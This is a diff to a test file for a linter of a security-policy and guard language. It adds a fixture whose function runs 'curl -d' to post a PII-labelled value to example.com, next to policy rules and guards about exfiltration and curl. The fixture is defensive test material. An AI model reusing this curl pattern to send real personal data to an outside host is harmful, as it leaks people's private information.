@@ -41,6 +41,46 @@ show @x
 env { } [ var @out = 1 ]
 show @out
 """,
+    "firing": """
+var pii @who = <who.txt>
+exe net:w @post(a) = run cmd { curl -d @a example.com }
+exe @quiet(a) = @a                  // a guard on it is of no use
+policy @p = {
+  defaults: { rules: ["no-secret-exfil",
+    "no-untrusted-destructive",     // never-fires
+    "untrusted-llms-get-influenced" // never-fires
+  ] },
+  operations: { "net:w": exfil,
+    "op:sh": exfil,
+    "op:cmd:git": exfil,
+    "net:send": exfil               // never-fires
+  },
+  labels: {
+    pii: { deny: [exfil, "op:show",
+      "op:log",                     // never-fires
+      "op:cmd:gti"                  // never-fires
+    ] },
+    pki: { deny: [exfil] }          // never-fires
+  },
+}
+guard before pii = when [ * => allow ]
+guard before secret = when [ * => allow ]
+guard before untrusted = when [ * => allow ]
+guard before exfil = when [ * => allow ]
+guard before src:mcp = when [ * => allow ]
+guard before fs:w = when [ * => allow ]
+guard before op:cmd:curl = when [ * => allow ]
+guard before op:read = when [ * => allow ]
+guard before @post = when [ * => allow ]
+guard before op:js = when [ * => allow ]
+guard before pii:names = when [ * => allow ]       // never-fires
+guard before src:mpc = when [ * => allow ]         // never-fires
+guard before destructive = when [ * => allow ]     // never-fires
+guard before op:output = when [ * => allow ]       // never-fires
+guard before op:cmd:git:push = when [ * => allow ] // never-fires
+guard before @quiet = when [ * => allow ]          // never-fires
+show @post(@who)
+""",
     "places": """
 allow                               // misplaced
 exe @f(a) = [
@@ -51,7 +91,7 @@ exe @f(a) = [
 @f                                  // no-effect
 @f.mx.labels                        // no-effect
 @f(1)
-guard @g before op:shwo = when [ * => allow ]  // unreachable
+guard @g before op:shwo = when [ * => allow ]  // never-fires
 guard @h before op:cmd:git = when [ // no-default
   @input == 1 => trusted! @input    // needs-privilege
 ]
@@ -89,3 +129,16 @@ def test_a_name_that_is_nearly_right_gets_a_suggestion():
 
 def test_nothing_is_called_undefined_where_a_part_was_not_read():
     assert resolve(parse(SourceText("var @a = (\nshow @a"))) == ()
+
+
+def test_modules_and_what_imports_are_not_said_to_fire_never():
+    guard = "guard @g before pii = when [ * => allow ]\n"
+    assert [each.code for each in resolve(parse(SourceText(guard + "show 1")))] == ["never-fires"]
+    for rest in (
+        "",
+        "export { @g }\nshow 1",
+        'import { @a } from "./m.mld"\nshow 1',
+        "policy @p = { }",
+        "show (",
+    ):
+        assert "never-fires" not in [each.code for each in resolve(parse(SourceText(guard + rest)))]
